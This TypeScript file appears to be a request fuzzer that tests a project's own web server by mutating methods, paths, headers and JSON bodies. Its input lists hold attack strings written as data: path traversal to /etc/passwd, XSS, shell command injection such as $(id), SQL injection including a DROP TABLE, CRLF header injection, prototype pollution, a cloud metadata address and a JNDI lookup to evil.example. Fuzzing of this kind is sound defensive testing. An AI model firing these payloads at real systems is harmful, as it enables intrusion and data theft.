import { APP_KEY, ORIGIN } from '../../server/world.ts';
import type { Chance } from '../sim/chance.ts';

/** A request before it becomes one. */
export interface Ask {
  method: string;
  path: string;
  headers: Record<string, string>;
  body: string | undefined;
}

const words = (text: string): string[] => text.split(' ');
const LONG = 'x'.repeat(5000);

/** What people who try things out put where something else was expected. */
const STRINGS = [
  ...words('0 -1 1e999 null undefined true [] {} %00 % %2e%2e%2f ../../../etc/passwd ..\\..\\ file:///etc/passwd javascript:alert(1)'),
  ...words(
    '<script>alert(1)</script> "><img/src=x/onerror=alert(1)> \'-- ${7*7} {{7*7}} $(id) `id` |id __proto__ constructor prototype toString',
  ),
  ...words(
    '${jndi:ldap://evil.example/x} http://169.254.169.254/latest 2026-02-30 0000-00-00 9999999999999999999 NaN Infinity é 日本語 𝄞 ﷺ',
  ),
  ...[
    '',
    ' ',
    '\u0000',
    '\r\nX-Injected: 1',
    '\u202egnp.exe',
    '\ud800',
    '\ufeff',
    "' OR 1=1",
    "'; DROP TABLE docs",
    'a'.repeat(129),
    'a'.repeat(257),
    LONG,
  ],
  ...[APP_KEY, ORIGIN],
];
const VALUES: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e308,
  [],
  {},
  [[]],
  [null],
  { a: { b: { c: {} } } },
  { length: 3 },
  { toString: 'x' },
];
const METHODS = words('GET POST PUT PATCH DELETE OPTIONS HEAD PROPFIND');
const TAILS = words('/ // /.. /%2e%2e ? & #x % %zz \\ ;a=b /./x ?a[]=1&a[]=2 &client_id=other &__proto__[x]=1');
const PARAMETERS = words('state limit from client_id skill q __proto__');
const HEADERS = [
  ...words('authorization content-type content-encoding content-length origin idempotency-key x-request-id x-forwarded-for'),
  ...words('accept-language if-none-match accept-encoding host cookie range expect x-http-method-override'),
];
const HEADER_VALUES = [
  ...words('Nonce gzip null * application/json text/plain'),
  'Nonce  ',
  'Bearer x y',
  'nonce ',
  `Nonce ${'a'.repeat(64)}`,
  ORIGIN,
];

/** As part of an address; half a character becomes a whole one. */
const encoded = (text: string): string => encodeURIComponent(Buffer.from(text).toString());

type Mutator = (ask: Ask, chance: Chance) => void;

const MUTATORS: Mutator[] = [
  (ask, chance) => (ask.method = chance.of(METHODS)),
  (ask, chance) => {
    const parts = ask.path.split('/');
    parts[chance.below(parts.length)] = encoded(chance.of(STRINGS));
    ask.path = `/${parts.join('/').replace(/^\/+/, '')}`;
  },
  (ask, chance) => (ask.path += chance.of(TAILS)),
  (ask, chance) => (ask.path += `${ask.path.includes('?') ? '&' : '?'}${chance.of(PARAMETERS)}=${encoded(chance.of(STRINGS))}`),
  (ask, chance) => (ask.headers[chance.of(HEADERS)] = chance.of(chance.maybe(0.3) ? HEADER_VALUES : STRINGS)),
  (ask, chance) => void Reflect.deleteProperty(ask.headers, chance.of(HEADERS.slice(0, 6))),
  (ask, chance) => (ask.body = mutateJson(ask.body, chance)),
  (ask, chance) => (ask.body = mutateJson(ask.body, chance)),
  (ask, chance) => (ask.body = mutateText(ask.body, chance)),
];

/** The same request with up to three things wrong. */
export function mutate(ask: Ask, chance: Chance): Ask {
  const changed = { ...ask, headers: { ...ask.headers } };
  for (let count = chance.between(0, 3); count > 0; count -= 1) chance.of(MUTATORS)(changed, chance);
  return changed;
}

/** A field changed, dropped, added or moved, anywhere in the body. */
function mutateJson(text: string | undefined, chance: Chance): string | undefined {
  let root: Record<string, unknown>;
  try {
    root = JSON.parse(text ?? '') as Record<string, unknown>;
  } catch {
    return text;
  }
  if (typeof root !== 'object') return text;
  for (let place = root; ;) {
    const keys = Object.keys(place);
    const key = keys.length > 0 ? chance.of(keys) : undefined;
    const inner = key === undefined ? undefined : place[key];
    if (typeof inner === 'object' && inner !== null && !Array.isArray(inner) && chance.maybe(0.7)) {
      place = inner as Record<string, unknown>;
      continue;
    }
    const odd: unknown = chance.maybe(0.6) ? chance.of(STRINGS) : chance.of(VALUES);
    const deed = key === undefined ? 'add' : chance.one('add', 'drop', 'double', 'change', 'change');
    if (deed === 'add') place[chance.maybe(0.5) ? 'extra' : chance.of(STRINGS)] = odd;
    else if (deed === 'drop') Reflect.deleteProperty(place, key!);
    else place[key!] = deed === 'double' ? [inner, inner] : odd;
    return JSON.stringify(root);
  }
}

/** The body broken as a text. */
function mutateText(text: string | undefined, chance: Chance): string | undefined {
  if (text === undefined) return chance.one(undefined, '{}', 'x', LONG);
  const at = chance.below(text.length + 1);
  return chance.of([
    text.slice(0, at),
    text.slice(0, at) + chance.of(STRINGS) + text.slice(at),
    text + text,
    `[${text}]`,
    text.replace('{', '{"__proto__":{"polluted":1},'),
    text.replace('{', '{"constructor":{"prototype":{"polluted":1}},'),
    text.replace(/"([^"]*)"/, '"\\u0000$1"'),
    `${'{"a":'.repeat(chance.below(40))}1${'}'.repeat(chance.below(40))}`,
    `{"a":"${'x'.repeat(chance.below(100_000))}"}`,
    `{${'"a":1,'.repeat(chance.below(3000))}"b":1}`,
  ]);
}
